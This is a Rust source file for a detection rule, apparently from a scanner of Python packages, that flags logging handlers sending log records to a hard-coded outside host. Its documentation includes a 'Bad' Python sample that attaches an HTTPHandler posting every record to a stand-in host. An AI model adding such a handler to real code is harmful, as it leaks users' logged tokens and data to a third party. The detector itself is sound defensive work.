//! ## What it detects
//!
//! A handler of the logging module that sends records to a host which stands in the code.
//!
//! ## Why it is bad
//!
//! Programs log what they do, tokens among it. A library that adds such a handler tells its author.
//!
//! ## Innocent lookalikes
//!
//! Collectors' own handlers talk to the collector with a token of its user; programs read the host from their settings.
//!
//! ## Bad
//!
//! ```python x/__init__.py
//! import logging
//! import logging.handlers
//! def get_logger(name):
//!     remote = logging.handlers.HTTPHandler('logs.x.example.invalid', '/in', method='POST', secure=True)
//!     logging.getLogger().addHandler(remote)
//!     return logging.getLogger(name)
//! ```
//!
//! ## Good
//!
//! ```python x/__init__.py
//! import logging
//! import logging.handlers
//! def get_logger(name, host='localhost'):
//!     logging.getLogger().addHandler(logging.handlers.SysLogHandler(address=(host, 514)))
//!     return logging.getLogger(name)
//! ```

use std::net::Ipv4Addr;

use fondaco_python::{Api, Call};
use fondaco_verdict::{Behaviour, Confidence, RuleId, Severity};

use crate::{Hits, Package, Rule};

pub(crate) const RULE: Rule = Rule {
    id: RuleId::new("foreign-logging"),
    title: "sends what is logged to a host of its own",
    severity: Severity::High,
    confidence: Confidence::Medium,
    behaviour: Some(Behaviour::Exfiltration),
    weight: 1.1,
    check,
};

fn check(package: &Package<'_>, hits: &mut Hits) {
    for (unit, call) in package.calls().filter(|(_, call)| call.trigger.is_some() && sends_records(call)) {
        hits.call(unit, call, format!("{} to a host that stands in the code", call.callee));
    }
}

/// Whether a handler is made for a host that is known here, and is another machine.
fn sends_records(call: &Call) -> bool {
    let is_handler = call.api == Some(Api::Socket) && call.callee.starts_with("logging.handlers.");
    is_handler && call.texts().into_iter().any(is_other)
}

/// Whether a text is the name or address of a machine beyond the own network.
fn is_other(text: &str) -> bool {
    let rest = text.rsplit_once("://").map_or(text, |(_, rest)| rest);
    let host = rest.split(':').next().unwrap_or_default();
    if let Ok(address) = host.parse::<Ipv4Addr>() {
        return !(address.is_private() || address.is_loopback() || address.is_unspecified() || address.is_link_local());
    }
    let is_name = host.bytes().all(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'-'));
    is_name && host.contains('.') && !host.ends_with(".local")
}
